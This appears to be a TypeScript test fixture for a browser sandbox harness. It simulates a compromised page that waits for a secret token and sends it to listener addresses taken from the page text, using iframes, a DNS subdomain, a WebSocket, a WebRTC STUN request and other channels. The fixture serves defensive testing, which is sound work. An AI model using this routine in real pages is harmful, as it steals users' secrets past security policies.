/**
 * What a hole in the page would look like: runs in the app's page, past its policy. It waits until the runner's
 * cell has shown the secret, takes the addresses from the payload's own text, and lets it out by every channel
 * that a listener is there for.
 */
export function breach() {
	if (window !== top) return;
	const clock = setInterval(() => {
		const text = document.querySelector('main')?.innerText ?? '';
		const at = /udvej (\S+) (\S+) (\S+) (\S+)/.exec(text);
		const secret = /HEMMELIG-[0-9a-f]+/.exec(text)?.[0];
		if (at === null || secret === undefined) return;
		clearInterval(clock);
		leak(at.slice(1), secret);
	}, 50);

	function leak([http, ws, udp, host]: readonly string[], secret: string) {
		// By frames: what the page itself fetches ends in the service worker, which no breach of the page takes away.
		add('iframe', { src: `${http}?${secret}` });
		add('iframe', { src: `http://${secret}.${host}/` });
		add('iframe', { sandbox: '', src: `./realm/cage.html?${secret}` });
		const socket = new WebSocket(ws!);
		socket.onopen = () => socket.send(secret);
		const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
		peer.createDataChannel('leak');
		void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
		document.title = secret;
		history.replaceState(secret, '');
		console.log(secret);
		Object.assign(window, { __executed: true });
		window.open('about:blank');
		setTimeout(() => alert('executed'));
	}

	function add(name: string, attributes: { readonly [name: string]: string }) {
		const element = document.createElement(name);
		for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
		document.body.append(element);
	}
}
